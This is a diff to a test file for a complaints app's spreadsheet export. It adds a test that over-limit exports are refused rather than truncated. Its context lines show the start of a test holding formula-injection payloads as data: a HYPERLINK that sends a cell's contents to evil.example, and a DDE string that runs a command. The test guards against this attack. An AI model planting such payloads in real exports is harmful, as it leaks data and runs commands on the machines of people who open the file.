@@ -339,6 +339,24 @@ def test_the_export_follows_the_filters(client, office_staff, housing_order):
     assert [row[0] for row in rows[1:]] == [housing_order.number]
 
 
+def test_an_export_longer_than_the_limit_is_refused_rather_than_cut_short(
+    client, office_staff, housing_order, monkeypatch
+):
+    from complaints import views
+
+    intake(office_staff, kind="inquiry", content="想问一下预付卡退款的规定")
+    monkeypatch.setattr(views, "EXPORT_LIMIT", 1)
+    client.force_login(office_staff)
+    response = client.get("/orders/export.xlsx?tab=all&kind=")
+    assert response.status_code == 302
+    assert response["Location"] == "/orders/?tab=all&kind="
+    page = client.get(response["Location"]).content.decode()
+    assert "超过1件" in page or "more than 1 orders" in page
+    response = client.get("/orders/export.xlsx?tab=all&kind=complaint")
+    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
+    assert [row[0] for row in rows[1:]] == [housing_order.number]
+
+
 def test_the_export_keeps_text_that_looks_like_a_formula_as_text(client, office_staff):
     title = '=HYPERLINK("http://evil.example/?"&O2,"点此查看")'
     business = "+1+cmd|' /C calc'!A0"
